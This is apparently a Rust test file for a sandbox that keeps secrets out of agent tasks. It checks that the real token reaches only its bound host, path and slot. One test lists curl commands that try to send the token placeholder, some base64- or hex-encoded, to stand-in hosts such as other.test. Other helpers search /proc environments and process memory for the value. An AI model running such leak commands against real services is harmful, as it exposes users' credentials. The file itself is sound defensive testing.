//! Secrets that a task uses without holding them, from the command that adds
//! one to the server that gets it.

#![expect(
    clippy::unwrap_used,
    reason = "a step of a test that fails fails the test"
)]

mod host;

use std::{
    fs,
    io::{Read, Seek, SeekFrom},
    os::unix::fs::PermissionsExt,
    path::Path,
    process::Stdio,
};

use base64::{Engine as _, engine::general_purpose::STANDARD};
use serde_json::Value;
use stockade_audit::RecordKind;
use stockade_types::EventKind;

use crate::host::{
    Host, Task, eventually, finish, has,
    processes::{self, Process},
    skip,
    terminal::Terminal,
    tls_server::{ECHO, TlsServer, forms},
    wait_for_file, wait_within,
};

/// A value as a provider gives them, with characters that encodings differ in.
const REAL: &str = "ghp_decoy/9+REAL\"value-0123456789abcdefg";
/// An age identity of these tests.
const IDENTITY: &str = "AGE-SECRET-KEY-1QYPQXPQ9QCRSSZG2PVXQ6RS0ZQG3YYC5Z5TPWXQERGD3C8G7RUSQGPQYEE";
/// How requests carry it inside.
const BEARER: &str = "-H \"Authorization: Bearer $GH_TOKEN\"";

/// A host with a server that a task knows as `api.test` and as `other.test`.
struct Stage {
    host: Host,
    server: TlsServer,
}

impl Stage {
    /// Nothing where curl is missing.
    fn open() -> Option<Self> {
        if !has("curl") {
            skip("requests with secrets", "curl is not installed");
            return None;
        }
        let mut host = Host::new();
        let certificate = host.path("certificate.pem");
        let server = TlsServer::start(&certificate);
        // Whom the caller's programs believe.
        host.set("SSL_CERT_FILE", certificate);
        host.set("GITHUB", REAL);
        Some(Self { host, server })
    }

    /// The same, with the secret `github` bound to the header of `api.test`.
    fn bound() -> Option<Self> {
        let stage = Self::open()?;
        stage.secret(&["add", "github", "--from", "env:GITHUB"]);
        stage.bind(&["--path", "/v1/**", "--method", "GET,POST"]);
        for path in ["/echo", "/gzip", "/slow"] {
            stage.bind(&["--path", path]);
        }
        Some(stage)
    }

    fn bind(&self, more: &[&str]) {
        let words = ["bind", "github", "--host", "api.test", "--env", "GH_TOKEN"];
        let header = ["--header", "Authorization=Bearer {}"];
        self.secret(&[&words[..], &header[..], more].concat());
    }

    /// Runs a verb of `stockade secret`, which must succeed.
    fn secret(&self, words: &[&str]) -> Value {
        self.host.json(&[&["secret"], words].concat())
    }

    /// A task that may reach both names.
    fn start(&self, more: &[&str], script: &str) -> Task {
        let services = ["api.test", "other.test"].map(|name| format!("{name}={}", self.server.url));
        let mut words = vec![
            "--allow",
            "ANY api.test",
            "--allow",
            "ANY other.test",
            "--yes",
        ];
        for service in &services {
            words.extend(["--service", service]);
        }
        words.extend(more);
        self.host.start_with(&words, script)
    }

    /// What curl prints inside of a reply's body and status.
    fn curl(&self, task: &Task, words: &str) -> String {
        let script = format!("curl -sS --max-time 30 -w ' %{{http_code}}' {words}");
        self.host.exec(task, &script).1
    }
}

/// The rule by which a reply of the gateway says that it refused.
fn rule(printed: &str) -> String {
    let text = printed.trim_end_matches(|c: char| c.is_ascii_digit() || c == ' ');
    let document: Value = serde_json::from_str(text.trim()).unwrap_or_default();
    document["rule"].as_str().unwrap_or(printed).to_owned()
}

fn events(task: &Task, kind: EventKind) -> Vec<Value> {
    let records = task.record().into_iter();
    let of_kind = records.filter(|record| record.kind == RecordKind::Event(kind));
    of_kind.map(|record| record.body).collect()
}

/// Whether a file below `folder` holds `text`, and which.
fn holding(folder: &Path, text: &str) -> Vec<String> {
    let mut found = Vec::new();
    for entry in fs::read_dir(folder).into_iter().flatten().flatten() {
        let kind = entry.file_type().unwrap();
        if kind.is_dir() {
            found.extend(holding(&entry.path(), text));
        } else if kind.is_file() {
            let bytes = fs::read(entry.path()).unwrap_or_default();
            if contains(&bytes, text.as_bytes()) {
                found.push(entry.path().display().to_string());
            }
        }
    }
    found
}

fn contains(bytes: &[u8], text: &[u8]) -> bool {
    bytes.windows(text.len()).any(|part| part == text)
}

/// All that can be read of a process's memory.
fn memory(process: &Process) -> Option<Vec<u8>> {
    let maps = fs::read_to_string(process.file("maps")).ok()?;
    let mut memory = fs::File::open(process.file("mem")).ok()?;
    let mut all = Vec::new();
    for line in maps.lines() {
        let mut words = line.split_whitespace();
        let (from, to) = words.next()?.split_once('-')?;
        let from = u64::from_str_radix(from, 16).ok()?;
        let to = u64::from_str_radix(to, 16).ok()?;
        // What nobody inside wrote holds nothing of theirs.
        if !words.next()?.starts_with("rw") || to - from > 256 << 20 {
            continue;
        }
        let mut part = vec![0; usize::try_from(to - from).ok()?];
        memory.seek(SeekFrom::Start(from)).ok()?;
        if memory.read_exact(&mut part).is_ok() {
            all.extend(part);
        }
    }
    Some(all)
}

#[test]
fn g3_the_server_gets_the_secret_and_nothing_inside_ever_holds_it() {
    let Some(stage) = Stage::bound() else {
        return;
    };
    // The shell keeps what an echo brought, for as long as it is looked at.
    let script = format!(
        "reply=$(curl -sS {BEARER} https://api.test/echo); echo \"$reply\" > reply; \
         mv reply echoed; sleep 600; :"
    );
    let task = stage.start(&[], &script);
    wait_for_file(&stage.host, &task, "echoed");
    let printed = stage.curl(&task, &format!("{BEARER} https://api.test/v1/x"));
    assert_eq!(printed, "ok 200");
    let bearer = format!("Bearer {REAL}");
    let seen = stage.server.seen();
    let credentials: Vec<_> = seen
        .iter()
        .map(|seen| seen.header("authorization"))
        .collect();
    assert_eq!(credentials, [Some(&*bearer), Some(&*bearer)]);

    let (_, placeholder) = stage
        .host
        .exec(&task, "printf %s $GH_TOKEN | tr a-zA-Z b-zaB-ZA");
    let turn = |c: char| match c {
        'a' | 'A' => char::from_u32(u32::from(c) + 25).unwrap(),
        c if c.is_ascii_alphabetic() => char::from_u32(u32::from(c) - 1).unwrap(),
        c => c,
    };
    // Turned, since no output holds the placeholder either.
    let placeholder: String = placeholder.chars().map(turn).collect();
    assert_ne!(placeholder, REAL);
    assert!(placeholder.starts_with("ghp_") && placeholder.len() == REAL.len());

    for secret in [REAL, "REAL\"value-0123"] {
        assert_eq!(holding(&stage.host.state(), secret), [""; 0]);
        let (start, end) = secret.split_at(7);
        let search = format!(
            "grep -rlsF -- '{start}'''\"\"'{end}' . ~ /tmp /var/tmp /etc /agent.git /pool.git; \
             grep -lsF -- '{start}'''\"\"'{end}' /dev/shm/* /proc/[0-9]*/environ /proc/[0-9]*/cmdline; true"
        );
        assert_eq!(stage.host.exec(&task, &search).1, "", "{secret}");
    }

    let own = |process: &Process| {
        let environment = fs::read(process.file("environ")).unwrap_or_default();
        contains(&environment, task.id.as_bytes())
    };
    let inside: Vec<_> = processes::all().into_iter().filter(own).collect();
    let memories: Vec<_> = inside.iter().filter_map(memory).collect();
    // The search finds what is there.
    if !memories
        .iter()
        .any(|memory| contains(memory, placeholder.as_bytes()))
    {
        return skip(
            "memory of processes inside",
            "this user may not read the memory of its own processes",
        );
    }
    for memory in &memories {
        assert!(!contains(memory, REAL.as_bytes()));
    }
    let used = events(&task, EventKind::SecretUsed);
    assert_eq!(used.len(), 2);
    assert_eq!(
        (&used[0]["secret"], &used[0]["host"]),
        (&"github".into(), &"api.test".into())
    );
}

#[test]
fn g3_a_placeholder_anywhere_but_in_its_slot_is_an_alarm_and_reaches_nobody() {
    let Some(stage) = Stage::bound() else {
        return;
    };
    let task = stage.start(&[], "sleep 600");
    let attempts = [
        "-H \"Authorization: Bearer $GH_TOKEN\" https://other.test/v1/x",
        "-H \"Authorization: Bearer $GH_TOKEN\" https://elsewhere.test/v1/x",
        "-H \"Authorization: Bearer $GH_TOKEN\" https://api.test/v2/x",
        "-X DELETE -H \"Authorization: Bearer $GH_TOKEN\" https://api.test/v1/x",
        "-H \"Authorization: Bearer $GH_TOKEN\" https://api.test:8443/v1/x",
        "-H \"Authorization: Bearer $GH_TOKEN\" http://api.test/v1/x",
        "-H \"Authorization: token $GH_TOKEN\" https://api.test/v1/x",
        "-H \"Authorization: $GH_TOKEN\" https://api.test/v1/x",
        "-H \"X-Note: $GH_TOKEN\" https://api.test/v1/x",
        "-H \"$GH_TOKEN: x\" https://api.test/v1/x",
        "-H \"Cookie: a=$GH_TOKEN\" https://other.test/",
        "-u \"x:$GH_TOKEN\" https://api.test/v1/x",
        "-u \"x:$GH_TOKEN\" https://other.test/",
        "\"https://api.test/v1/$GH_TOKEN\"",
        "\"https://api.test/v1/x?a=$GH_TOKEN\"",
        "-d \"{\\\"text\\\": \\\"$GH_TOKEN\\\"}\" https://api.test/v1/x",
        "-H \"Authorization: Bearer $GH_TOKEN\" -d \"note=$GH_TOKEN\" https://api.test/v1/x",
        "-d \"$(printf %s $GH_TOKEN | base64 -w0)\" https://other.test/",
        "-d \"$(printf x%s $GH_TOKEN | od -An -tx1 | tr -d ' \\n')\" https://other.test/",
        "-H 'Transfer-Encoding: chunked' -d \"$GH_TOKEN\" https://other.test/",
    ];
    for attempt in attempts {
        let printed = stage.curl(&task, attempt);
        assert_eq!(rule(&printed), "secrets.placeholder-misplaced", "{attempt}");
    }
    assert!(stage.server.seen().is_empty(), "{:?}", stage.server.seen());
    let why = stage.host.stockade(&["why", "--task", &task.id]);
    assert!(why.stdout.contains("`github`"), "{why:?}");
    let refused = events(&task, EventKind::Denied);
    assert_eq!(refused.len(), attempts.len());
    assert!(
        refused.iter().all(|body| body["alarm"] == true),
        "{refused:?}"
    );
    assert!(events(&task, EventKind::SecretUsed).is_empty());
}

#[test]
fn g3_on_a_bound_host_no_other_credential_is_sent_and_without_one_it_is_reached() {
    let Some(stage) = Stage::bound() else {
        return;
    };
    let task = stage.start(&[], "sleep 600");
    for words in [
        "-H 'Authorization: Bearer ghp_of_somebody_else_0123456789abcdef'",
        "-H 'X-Api-Key: x'",
        "-H 'Cookie: session=x'",
        "-u somebody:else",
        "-G -d access_token=x",
        "-H \"Authorization: Bearer $GH_TOKEN\" -H 'X-Api-Key: x'",
        "-H \"Authorization: Bearer $GH_TOKEN\" -H \"Authorization: Bearer ghp_of_somebody_else\"",
    ] {
        let printed = stage.curl(&task, &format!("{words} https://api.test/v1/x"));
        let refused = rule(&printed);
        let foreign = refused == "secrets.foreign-credential";
        let twice =
            refused == "secrets.placeholder-misplaced" && words.matches("-H \"A").count() == 2;
        assert!(foreign || twice, "{words}: {printed}");
    }
    assert!(stage.server.seen().is_empty());
    assert_eq!(stage.curl(&task, "https://api.test/v1/public"), "ok 200");
    // Where no secret goes, the task's own credentials are its own business.
    let own = "-H 'Authorization: Bearer of-the-task-itself' https://other.test/";
    assert_eq!(stage.curl(&task, own), "ok 200");
}

#[test]
fn g3_an_echoed_secret_comes_back_as_the_placeholder_in_every_form_and_chunk() {
    let Some(stage) = Stage::bound() else {
        return;
    };
    let task = stage.start(&[], "sleep 600");
    let echo = format!("-i --compressed -H 'Range: bytes=0-9' {BEARER} https://api.test/echo");
    // Files, since what is printed is searched once more on its way out.
    let script = format!("curl -sS {echo} > echo; printf %s $GH_TOKEN > token; mv echo echoed");
    assert_eq!(stage.host.exec(&task, &script).0, 0);
    stage.host.json(&["stop", &task.id]);
    for form in forms(REAL) {
        let kept = form.trim_matches(['"', '=']);
        let core = &kept[8..kept.len() - 8];
        assert_eq!(holding(&stage.host.state(), core), [""; 0], "{form}");
    }
    let seen = stage.server.seen();
    assert_eq!(seen[0].header("accept-encoding"), Some("identity"));
    assert_eq!(seen[0].header("range"), None);
    let held = holding(&task.folder, ECHO);
    assert!(
        held.iter().any(|path| path.ends_with("/echoed")),
        "{held:?}"
    );
}

#[test]
fn g3_a_reply_that_cannot_be_searched_is_withheld() {
    let Some(stage) = Stage::bound() else {
        return;
    };
    let task = stage.start(&[], "sleep 600");
    let printed = stage.curl(&task, &format!("{BEARER} https://api.test/gzip"));
    assert!(
        printed.ends_with(" 502") && printed.contains("cannot be searched"),
        "{printed}"
    );
}

#[test]
fn g3_a_secret_that_is_taken_back_stops_at_the_next_request_and_cuts_the_open_reply() {
    let Some(stage) = Stage::bound() else {
        return;
    };
    let task = stage.start(&[], "sleep 600");
    let slow = format!("curl -sSN {BEARER} https://api.test/slow > slow.txt; echo $? > ended");
    let mut running = stage.host.command(&["exec", &task.id, "--shell", &slow]);
    let open = running
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let begun = "grep -q begun slow.txt";
    eventually("the reply has begun", || {
        stage.host.exec(&task, begun).0 == 0
    });

    let removed = stage.secret(&["rm", "github"]);
    assert_eq!(
        removed["taken_back_from"].as_array().unwrap().len(),
        1,
        "{removed}"
    );
    let ended = wait_within(open, host::LONGEST).unwrap();
    assert_eq!(ended.code, 0, "{ended:?}");
    let (_, code) = stage.host.exec(&task, "cat ended");
    assert_ne!(code.trim(), "0", "the reply looked whole");
    let before = stage.server.seen().len();
    let printed = stage.curl(&task, &format!("{BEARER} https://api.test/v1/x"));
    assert_eq!(rule(&printed), "secrets.taken-back", "{printed}");
    assert_eq!(stage.server.seen().len(), before);
    let taken = events(&task, EventKind::SecretTakenBack);
    assert_eq!(taken[0]["secret"], "github");
    // It is gone for tasks to come too.
    let next = stage.start(&[], "sleep 600");
    assert_eq!(stage.host.exec(&next, "echo \"[$GH_TOKEN]\"").1, "[]\n");
}

#[test]
fn g3_fields_forms_passwords_parameters_and_cookies_are_slots_like_a_header() {
    let Some(stage) = Stage::open() else {
        return;
    };
    stage.secret(&["add", "login", "--from", "env:GITHUB"]);
    let words = ["bind", "login", "--host", "api.test", "--env", "GH_TOKEN"];
    stage.secret(&[&words[..], &["--field", "auth.token", "--path", "/login"]].concat());
    stage.secret(&[&words[..], &["--basic", "git", "--path", "/git/**"]].concat());
    let task = stage.start(&[], "sleep 600");
    let post = |body: &str| {
        let words =
            format!("-H 'Content-Type: application/json' -d \"{body}\" https://api.test/login");
        stage.curl(&task, &words)
    };
    assert_eq!(
        post("{\\\"auth\\\": {\\\"token\\\":\\\"$GH_TOKEN\\\"}, \\\"n\\\": 1.0}"),
        "ok 200"
    );
    let body = &stage.server.seen()[0].body;
    let expected = format!(r#"{{"auth": {{"token":{}}}, "n": 1.0}}"#, Value::from(REAL));
    assert_eq!(*body, expected);
    for body in [
        "{\\\"auth\\\": {\\\"token\\\":\\\"$GH_TOKEN\\\"}, \\\"n\\\": \\\"$GH_TOKEN\\\"}",
        "{\\\"auth\\\": {\\\"note\\\":\\\"$GH_TOKEN\\\"}}",
        "{\\\"auth\\\": {\\\"token\\\":\\\"a $GH_TOKEN\\\"}}",
    ] {
        assert_eq!(rule(&post(body)), "secrets.placeholder-misplaced", "{body}");
    }
    assert_eq!(
        stage.curl(&task, "-u \"git:$GH_TOKEN\" https://api.test/git/a/b"),
        "ok 200"
    );
    let other = stage.curl(&task, "-u \"root:$GH_TOKEN\" https://api.test/git/a/b");
    assert_eq!(rule(&other), "secrets.placeholder-misplaced");
    let seen = stage.server.seen();
    assert_eq!(seen.len(), 2);
    let expected = format!("Basic {}", STANDARD.encode(format!("git:{REAL}")));
    assert_eq!(seen[1].header("authorization").unwrap(), expected);

    let percent = &forms(REAL)[3];
    for (words, place) in [
        (
            ["--query", "key"],
            "\"https://api.test/p?a=b&key=$GH_TOKEN\"",
        ),
        (
            ["--form", "key"],
            "-d \"a=b&key=$GH_TOKEN\" https://api.test/p",
        ),
        (
            ["--header", "Cookie=key={}"],
            "-H \"Cookie: key=$GH_TOKEN\" https://api.test/p",
        ),
    ] {
        let bind = ["bind", "login", "--host", "api.test", "--env", "GH_TOKEN"];
        stage.secret(&[&bind[..], &words, &["--path", "/p"]].concat());
        let task = stage.start(&[], "sleep 600");
        assert_eq!(stage.curl(&task, place), "ok 200", "{words:?}");
        let seen = stage.server.seen().pop().unwrap();
        let sent = match words[0] {
            "--query" => &seen.line,
            "--form" => &seen.body,
            _ => seen.header("cookie").unwrap(),
        };
        let value = if words[0] == "--header" {
            REAL
        } else {
            percent
        };
        assert!(sent.contains(&format!("key={value}")), "{words:?}: {sent}");
        let elsewhere = place.replace("/p", "/q");
        let refused = rule(&stage.curl(&task, &elsewhere));
        assert_eq!(refused, "secrets.placeholder-misplaced", "{words:?}");
    }
    assert!(holding(&stage.host.state(), percent).is_empty());
}

#[test]
fn g3_a_command_tells_a_value_once_a_time_and_its_failure_is_refused_without_its_words() {
    let Some(stage) = Stage::open() else {
        return;
    };
    let count = stage.host.path("count");
    let broken = stage.host.path("broken");
    let command = format!(
        "command:echo x >> {}; test ! -e {} || {{ printf told-%s too-much >&2; exit 3; }}; printf %s \"$GITHUB\"",
        count.display(),
        broken.display()
    );
    stage.secret(&["add", "github", "--from", &command, "--ttl", "2s"]);
    stage.bind(&[]);
    let times = || fs::read_to_string(&count).unwrap().lines().count();
    assert_eq!(times(), 1);
    let task = stage.start(&[], "sleep 600");
    let ask = || stage.curl(&task, &format!("{BEARER} https://api.test/v1/x"));
    let mut most = 0;
    eventually("the command is run again", || {
        assert_eq!(ask(), "ok 200");
        most += 1;
        times() > 2
    });
    // More requests than runs: a value is used again.
    assert!(most >= times() - 1, "{most} requests, {} runs", times());
    fs::write(&broken, "").unwrap();
    let mut refused = String::new();
    eventually("the value is too old", || {
        refused = ask();
        rule(&refused) == "secrets.unavailable"
    });
    assert!(
        refused.contains("secret test github") && !refused.contains("told-too-much"),
        "{refused}"
    );
    assert!(holding(&stage.host.state(), "told-too-much").is_empty());
    let bearer = format!("Bearer {REAL}");
    assert!(
        stage
            .server
            .seen()
            .iter()
            .all(|seen| seen.header("authorization") == Some(&bearer))
    );
}

#[test]
fn g3_the_store_opens_by_identity_or_passphrase_and_no_file_holds_a_value_in_clear() {
    let Some(mut stage) = Stage::open() else {
        return;
    };
    let identity = stage.host.path("identity.txt");
    fs::write(&identity, IDENTITY).unwrap();
    fs::set_permissions(&identity, fs::Permissions::from_mode(0o600)).unwrap();
    let passphrase = stage.host.path("passphrase");
    fs::write(&passphrase, "right horse\n").unwrap();
    for (home, words) in [
        ("one", vec!["--identity", identity.to_str().unwrap()]),
        ("two", Vec::new()),
    ] {
        stage.host.set("XDG_CONFIG_HOME", stage.host.path(home));
        if home == "two" {
            stage.host.set("STOCKADE_PASSPHRASE_FILE", &passphrase);
        }
        let words = [&["secret", "add", "github"][..], &words].concat();
        let mut adding = stage.host.command(&words);
        adding.stdin(Stdio::from(
            fs::File::open(value_file(&stage.host)).unwrap(),
        ));
        let added = finish(adding);
        assert_eq!(added.code, 0, "{added:?}");
        fs::remove_file(value_file(&stage.host)).unwrap();
        stage.bind(&[]);
        let tested = stage.host.stockade(&["secret", "test", "github"]);
        assert!(
            tested.code == 0 && !tested.stdout.contains("decoy"),
            "{tested:?}"
        );
        let task = stage.start(&[], "sleep 600");
        assert_eq!(
            stage.curl(&task, &format!("{BEARER} https://api.test/v1/x")),
            "ok 200"
        );
        let root = stage.host.path("");
        assert_eq!(holding(&root, "REAL\"value"), [""; 0]);
    }
    fs::write(&passphrase, "wrong horse\n").unwrap();
    let refused = stage.host.stockade(&["run", "--", "true"]);
    assert!(
        refused.code == 4 && refused.stderr.contains("does not open"),
        "{refused:?}"
    );
    stage.host.unset("STOCKADE_PASSPHRASE_FILE");
    let mut locked = stage.host.other_command("setsid");
    locked.args(["-w", env!("CARGO_BIN_EXE_stockade"), "run", "--", "true"]);
    let locked = finish(locked);
    assert!(
        locked.code == 4 && locked.stderr.contains("STOCKADE_PASSPHRASE_FILE"),
        "{locked:?}"
    );
    // A task that does not use it needs no passphrase.
    let without = stage.host.stockade(&["run", "--no-secrets", "--", "true"]);
    assert_eq!(without.code, 0, "{without:?}");
}

/// A file with the value, for standard input.
fn value_file(host: &Host) -> std::path::PathBuf {
    let path = host.path("value");
    if !path.exists() {
        fs::write(&path, format!("{REAL}\n")).unwrap();
    }
    path
}

#[test]
fn g3_a_value_is_typed_without_being_shown_and_is_never_an_argument() {
    let mut host = Host::new();
    let as_argument = host.stockade(&["secret", "add", "github", REAL]);
    assert_eq!(as_argument.code, 2, "{as_argument:?}");
    host.set("TERM", "xterm");
    let mut adding = host.other_command("setsid");
    adding.args([
        "-c",
        "-w",
        env!("CARGO_BIN_EXE_stockade"),
        "secret",
        "add",
        "github",
    ]);
    let mut terminal = Terminal::start(adding);
    for (question, typed) in [
        ("Value of github", REAL),
        ("New passphrase", "right horse"),
        ("The same again", "right horse"),
    ] {
        terminal.wait_for(question);
        terminal.send(&format!("{typed}\r"));
    }
    let ended = terminal.finish();
    assert!(
        ended.code == 0 && ended.stdout.contains("is added"),
        "{ended:?}"
    );
    assert!(
        !ended.stdout.contains("decoy") && !ended.stdout.contains("horse"),
        "{ended:?}"
    );
    assert!(holding(&host.path(""), "REAL\"value").is_empty());
}

#[test]
fn g3_what_a_repository_asks_for_is_shown_and_not_given() {
    let Some(stage) = Stage::bound() else {
        return;
    };
    let asks = "[[secrets.github]]\nhost = \"other.test\"\nslot = { header = \"authorization=Bearer {}\" }\n\
                [[secrets.github]]\nhost = \"api.test\"\npath = \"/echo\"\nslot = { header = \"authorization=Bearer {}\" }\n";
    fs::write(stage.host.repository().join("stockade.toml"), asks).unwrap();
    stage.host.git(&["add", "-A"]);
    stage.host.git(&["commit", "-q", "-m", "asks"]);
    let shown = stage.host.stockade(&["run", "--", "true"]);
    assert_eq!(shown.code, 0, "{shown:?}");
    let lines: Vec<_> = shown
        .stderr
        .lines()
        .filter(|line| line.contains("not given"))
        .collect();
    assert!(
        lines.len() == 1 && lines[0].contains("other.test"),
        "{}",
        shown.stderr
    );
    let task = stage.start(&[], "sleep 600");
    let printed = stage.curl(&task, &format!("{BEARER} https://other.test/"));
    assert_eq!(rule(&printed), "secrets.placeholder-misplaced");
    assert!(stage.server.seen().is_empty());
}

#[test]
fn g3_a_secret_goes_by_verified_tls_only() {
    let Some(mut stage) = Stage::bound() else {
        return;
    };
    let plain = host::server::Server::start("api.test");
    let words = [
        "--service",
        &plain.service,
        "--allow",
        "ANY api.test",
        "--yes",
    ];
    let task = stage.host.start_with(&words, "sleep 600");
    let ask = format!("{BEARER} https://api.test/v1/x");
    assert_eq!(rule(&stage.curl(&task, &ask)), "secrets.clear-text");
    assert!(plain.lines().is_empty());
    // The same server, and nobody says that it is to be believed.
    stage.host.unset("SSL_CERT_FILE");
    let task = stage.start(&[], "sleep 600");
    let printed = stage.curl(&task, &ask);
    assert!(
        printed.ends_with(" 502") && printed.contains("TLS"),
        "{printed}"
    );
    assert!(stage.server.seen().is_empty());
}

#[test]
fn secrets_are_listed_tried_and_unbound_and_mistakes_are_told() {
    let mut host = Host::new();
    let empty = host.stockade(&["secret", "ls"]);
    assert!(
        empty.code == 0 && empty.stdout.contains("no secret"),
        "{empty:?}"
    );
    host.set("TOKEN", "decoy-0123456789abcdef");
    host.json(&["secret", "add", "a", "--from", "env:TOKEN"]);
    let words = ["secret", "bind", "a", "--host", "api.test", "--header"];
    let bound = host.stockade(&[&words[..], &["x-key={}", "--agent", "codex"]].concat());
    assert_eq!(bound.code, 0, "{bound:?}");
    let listed = host.stockade(&["secret", "ls"]);
    for told in [
        "env:TOKEN",
        "https://api.test:443",
        "`x-key: {}`",
        "for codex",
    ] {
        assert!(listed.stdout.contains(told), "{told}: {listed:?}");
    }
    for (words, code, told) in [
        (&["add", "a", "--from", "env:TOKEN"][..], 4, "already"),
        (&["add", "b", "--from", "TOKEN"], 2, "env:VARIABLE"),
        (&["add", "b", "--from", "command:false"], 4, "gave no value"),
        (
            &["bind", "c", "--host", "a.test", "--field", "x"],
            3,
            "no secret `c`",
        ),
        (&["bind", "a", "--host", "a.test"], 2, "--header"),
        (
            &["bind", "a", "--host", "a.test", "--header", "Host={}"],
            2,
            "routes",
        ),
        (
            &[
                "bind", "a", "--host", "a.test", "--field", "x", "--path", "/a/../b",
            ],
            2,
            "..",
        ),
        (
            &[
                "bind", "a", "--host", "a.test", "--field", "x", "--method", "FETCH",
            ],
            2,
            "FETCH",
        ),
        (
            &[
                "bind", "a", "--host", "a.test", "--field", "x", "--env", "PATH",
            ],
            2,
            "PATH",
        ),
        (&["unbind", "a", "--host", "other.test"], 3, "not bound"),
        (&["test", "c"], 3, "no secret"),
        (&["rm", "c"], 3, "no secret"),
    ] {
        let refused = host.stockade(&[&["secret"], words].concat());
        assert_eq!(refused.code, code, "{words:?}: {refused:?}");
        assert!(refused.stderr.contains(told), "{words:?}: {refused:?}");
    }
    assert_eq!(
        host.json(&["secret", "unbind", "a", "--host", "api.test"])["unbound"],
        "a"
    );
    assert_eq!(
        host.json(&["secret", "ls"])[0]["bindings"],
        serde_json::json!([])
    );
}
